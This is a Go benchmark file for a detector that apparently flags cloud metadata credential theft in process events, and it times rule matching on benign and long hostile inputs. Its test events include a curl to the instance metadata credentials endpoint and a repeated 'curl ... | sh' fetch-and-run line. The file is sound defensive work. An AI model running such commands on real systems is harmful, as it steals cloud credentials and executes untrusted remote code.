package detector

import (
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/imdswatch/imdswatch/schemas/ecs"
)

// BenchmarkMatch is what a record costs once it is an event:
//
//	go test -run '^$' -bench Match ./detector
//
// The events are those that decide the cost of a stream: one that an early test
// turns away, one that gets to the arguments and fails there, a hit, and the
// longest value that somebody could send on purpose.
func BenchmarkMatch(b *testing.B) {
	set, err := NewSet([]*Rule{mustBuiltin(b)})
	if err != nil {
		b.Fatal(err)
	}
	start := func(name, executable string, args ...string) *ecs.Event {
		return eventOf(b, values{"event.category", "process"}, values{"event.type", "start"}, values{"event.action", "exec"},
			values{"host.os.type", "linux"}, values{"process.name", name}, values{"process.executable", executable},
			append(values{"process.args"}, args...))
	}
	for _, c := range []struct {
		event string
		row   *ecs.Event
		want  int
	}{
		{"end", eventOf(b, values{"event.category", "process"}, values{"event.type", "end"}), 0},
		{"other-process", start("ls", "/usr/bin/ls", "ls", "-la"), 0},
		{"near-miss", start("curl", "/usr/bin/curl", "curl", "-s", "-o", "/dev/null", "https://example.com/latest/meta-data/iam/"), 0},
		{"hit", start("curl", "/usr/bin/curl", "curl", "-s", "http://169.254.169.254/latest/meta-data/iam/security-credentials/web"), 1},
		{"hostile-1MB", start("sh", "/bin/sh", strings.Repeat("/latest/meta-data-", 1<<20/18)), 0},
	} {
		b.Run("rule=imds/event="+c.event, func(b *testing.B) {
			matched := make([]*Rule, 0, 1)
			b.ReportAllocs()
			for b.Loop() {
				if matched = set.Match(matched[:0], c.row); len(matched) != c.want {
					b.Fatalf("%d rules match, want %d", len(matched), c.want)
				}
			}
		})
	}
}

// BenchmarkAlert is what a hit costs beside the matching.
func BenchmarkAlert(b *testing.B) {
	rule := mustBuiltin(b)
	event := theft(b)
	var buf []byte
	b.ReportAllocs()
	for b.Loop() {
		if buf = NewAlert(rule, event, origin).AppendJSON(buf[:0]); len(buf) < 1000 {
			b.Fatalf("an alert of %d bytes", len(buf))
		}
	}
	b.SetBytes(int64(len(buf)))
}

// corpus is 491 generated rules, as many as Elastic has for processes.
func corpus(tb testing.TB, fold Fold) (rules []*Rule) {
	tb.Helper()
	for i, query := range generateRules(1, 491) {
		r, err := Compile(fmt.Sprintf("corpus-%03d", i), query, ecs.Default, fold)
		if err != nil {
			tb.Fatal(err)
		}
		rules = append(rules, r)
	}
	return rules
}

// draws are sets of n of the rules each, drawn by a seed; of all rules one.
func draws(tb testing.TB, rules []*Rule, n int) (sets []*Set) {
	tb.Helper()
	random := rand.New(rand.NewPCG(7, uint64(n)))
	for range min(16, len(rules)/n) {
		drawn := make([]*Rule, n)
		for i, at := range random.Perm(len(rules))[:n] {
			drawn[i] = rules[at]
		}
		set, err := NewSet(drawn)
		if err != nil {
			tb.Fatal(err)
		}
		sets = append(sets, set)
	}
	return sets
}

// eventBlock is events that were written just before they are judged, as those of a
// batch are: the rows are in the processor's cache, and their memory is reused.
type eventBlock []ecs.Event

func (b eventBlock) fill(from []*ecs.Event, at int) {
	for i := range b {
		e := from[(at+i)%len(from)]
		row := &b[i]
		row.Reset()
		for _, f := range e.Fields() {
			for _, v := range e.Values(f) {
				addValue(row, f, v, v.Text())
			}
		}
	}
}

// addValue adds v to a field of e, with another text where it has one.
func addValue(e *ecs.Event, f ecs.Field, v ecs.Value, text []byte) {
	switch e.Schema().Kind(f) {
	case ecs.Long, ecs.Date:
		e.AddInt(f, v.Int())
	case ecs.Double:
		e.AddFloat(f, v.Float())
	case ecs.Boolean:
		e.AddBool(f, v.Bool())
	default:
		e.Add(f, text)
	}
}

// BenchmarkRules is what an event costs by how many rules judge it, on events of
// mixed kind and several draws of the rules, and for all of them also what it
// would cost to run every program in turn:
//
//	go test -run '^$' -bench Rules ./detector
//
// ns/event is the time of the judging alone, by the median draw; ns/op has that of
// writing the event, too.
func BenchmarkRules(b *testing.B) {
	events := generateEvents(2, 4000)
	rules := corpus(b, FoldASCII)
	rows := make(eventBlock, 64)
	for i := range rows {
		rows[i] = *ecs.NewEvent(ecs.Default)
	}
	for _, n := range []int{1, 10, 100, 491} {
		sets := draws(b, rules, n)
		bench := func(engine string, match func(*Set, []*Rule, *ecs.Event) []*Rule) {
			b.Run(fmt.Sprintf("rules=%d/engine=%s", n, engine), func(b *testing.B) {
				matched := make([]*Rule, 0, n)
				b.ReportAllocs()
				judging := make([]time.Duration, len(sets))
				judged := make([]int, len(sets))
				for i := 0; b.Loop(); i++ {
					if i%len(rows) > 0 {
						continue
					}
					rows.fill(events, i)
					draw := i / len(events) % len(sets)
					began := time.Now()
					for e := range rows {
						matched = match(sets[draw], matched[:0], &rows[e])
					}
					judging[draw] += time.Since(began)
					judged[draw] += len(rows)
				}
				var each []float64
				for draw := range sets {
					if judged[draw] > 0 {
						each = append(each, float64(judging[draw])/float64(judged[draw]))
					}
				}
				slices.Sort(each)
				median := each[len(each)/2]
				b.ReportMetric(median, "ns/event")
				b.ReportMetric(1e9/median, "events/s")
			})
		}
		bench("set", (*Set).Match)
		if n == len(rules) {
			bench("programs", func(s *Set, dst []*Rule, e *ecs.Event) []*Rule {
				for _, r := range s.rules {
					if r.program.match(e, e) {
						dst = append(dst, r)
					}
				}
				return dst
			})
		}
	}
}

// BenchmarkHostile is what the longest events cost that somebody could send on
// purpose, the long text standing both in the arguments and in the command line:
//
//	go test -run '^$' -bench Hostile ./detector
func BenchmarkHostile(b *testing.B) {
	const size = 1 << 20
	set, err := NewSet(corpus(b, FoldASCII))
	if err != nil {
		b.Fatal(err)
	}
	arguments := make([]string, 10_000)
	for i := range arguments {
		arguments[i] = fmt.Sprintf("--option-%d=/usr/lib/x", i)
	}
	var literals []string
	for len(literals) < 10_000 {
		for _, r := range set.rules {
			for _, a := range r.Anchors() {
				literals = append(literals, a.Text)
			}
		}
	}
	for _, c := range []struct {
		event string
		args  []string
	}{
		{"plain", []string{"bash", "-c", "ls -la /var/log"}},
		{"10000-arguments", arguments},
		{"10000-anchors", literals[:10_000]},
		{"1MB-a", []string{strings.Repeat("a", size)}},
		{"1MB-urls", []string{strings.Repeat("curl -s http://10.0.0.1/x | sh; ", size/32)}},
		{"1MB-addresses", []string{strings.Repeat("1.1.1.", size/6)}},
		{"1MB-anchors", []string{strings.Join(literals[:10_000], " ")}},
	} {
		e := eventOf(b, values{"event.category", "process"}, values{"event.type", "start"}, values{"event.action", "exec"},
			values{"host.os.type", "linux"}, values{"process.name", "bash"}, values{"process.executable", "/usr/bin/bash"},
			append(values{"process.args"}, c.args...), values{"process.command_line", strings.Join(c.args, " ")})
		bytes := 0
		for _, f := range e.Fields() {
			for _, v := range e.Values(f) {
				bytes += len(v.Text())
			}
		}
		b.Run("event="+c.event, func(b *testing.B) {
			matched := make([]*Rule, 0, len(set.rules))
			b.ReportAllocs()
			b.SetBytes(int64(bytes))
			for b.Loop() {
				matched = set.Match(matched[:0], e)
			}
		})
	}
}
